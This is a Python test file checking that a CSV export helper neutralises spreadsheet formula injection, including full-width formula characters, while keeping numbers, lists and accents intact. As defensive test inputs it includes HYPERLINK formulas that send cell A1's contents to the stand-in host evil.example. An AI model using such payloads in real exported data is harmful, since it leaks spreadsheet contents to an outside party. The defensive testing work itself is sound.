"""CSV exports neutralise spreadsheet formulas, and keep numbers and accents."""

from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd

from workbench.exports import frame_csv, frame_csv_bytes, safe_cell


def test_formula_cells_become_text() -> None:
    for risky in ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert safe_cell(risky) == "'" + risky
    for fine in ("Ana", "O'Brien", "a=b", "", "1+1"):
        assert safe_cell(fine) == fine


def test_full_width_formula_starts_become_text() -> None:
    """＝ (U+FF1D), ＋, － and ＠ are read as = + - @ by spreadsheets in East Asian locales."""
    for risky in ('＝HYPERLINK("http://evil.example/","click")', "＋1+1", "－2+3", "＠SUM(A1)"):
        assert safe_cell(risky) == "'" + risky
    rows = list(csv.reader(io.StringIO(frame_csv(pd.DataFrame({"name": ["＝1+1", "Ｊｏｓé"]})))))
    assert rows == [["name"], ["'＝1+1"], ["Ｊｏｓé"]]


def test_a_frame_keeps_numbers_lists_and_accents() -> None:
    frame = pd.DataFrame({"name": ['=HYPERLINK("x")', "José Nuñez"], "score": [-1.5, 2.0], "n": [3, -4],
                          "langs": [np.array(["English", "French"]), []], "missing": [None, "ok"]})
    text = frame_csv(frame, float_format="%.2f")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["name", "score", "n", "langs", "missing"],
                    ["'=HYPERLINK(\"x\")", "-1.50", "3", "English; French", ""],
                    ["José Nuñez", "2.00", "-4", "", "ok"]]
    assert frame_csv_bytes(frame).startswith("\ufeff".encode())
